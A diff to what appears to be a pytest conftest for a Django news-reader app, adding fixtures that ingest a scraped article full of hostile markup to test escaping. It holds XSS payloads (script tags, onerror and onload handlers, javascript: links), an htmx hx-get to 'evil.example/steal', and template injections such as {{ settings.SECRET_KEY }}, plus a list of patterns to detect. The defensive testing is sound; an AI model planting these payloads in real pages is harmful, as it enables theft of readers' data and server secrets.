@@ -155,3 +155,45 @@ def close_connection_pools(django_db_setup):
     for connection in connections.all(initialized_only=True):
         if getattr(connection, "pool", None) is not None:
             connection.close_pool()
+
+
+# Markup a scraped page may carry; it must be stored as text and shown escaped everywhere.
+HOSTILE_TITLE = "Beirut <script>alert(1)</script> talks stall {{ settings.SECRET_KEY }}"
+HOSTILE_CAPTION = (
+    'Protesters in Beirut <img src=x onerror="alert(2)"> '
+    '<img src="https://evil.example/pixel.png"> (AFP)'
+)
+HOSTILE_PARAGRAPHS = [
+    'Beirut, 3 February 2026 - Talks stalled. Read <a href="javascript:alert(3)">more</a> '
+    'and <div hx-get="https://evil.example/steal" hx-trigger="load">this</div>.',
+    "Officials said {% debug %} and {{ request.META }} <svg onload=alert(4)> "
+    '<iframe src="https://evil.example/"></iframe> <style>body{display:none}</style>.',
+]
+# What must never reach a reader unescaped.
+HOSTILE_MARKUP = [
+    "<script>alert(1)",
+    "<img src=x",
+    '<img src="https://evil.example',
+    '<a href="javascript:',
+    '<div hx-get="https://evil.example',
+    "<svg onload",
+    '<iframe src="https://evil.example',
+    "<style>body",
+]
+
+
+def write_hostile_file(folder: Path) -> Path:
+    path = folder / "hostile.txt"
+    caption = HOSTILE_CAPTION
+    header = f"{HOSTILE_TITLE}\n\n{caption}\n{caption}\n"
+    path.write_text(f"{header}TT\n\n{header}\n" + "\n\n".join(HOSTILE_PARAGRAPHS) + "\n")
+    return path
+
+
+@pytest.fixture
+def hostile_article(tmp_path):
+    """A published article ingested from a scraped file full of markup."""
+    from newsreader.models import Article
+
+    ingest(write_hostile_file(tmp_path))
+    return Article.objects.get(title__startswith="Beirut <script>")
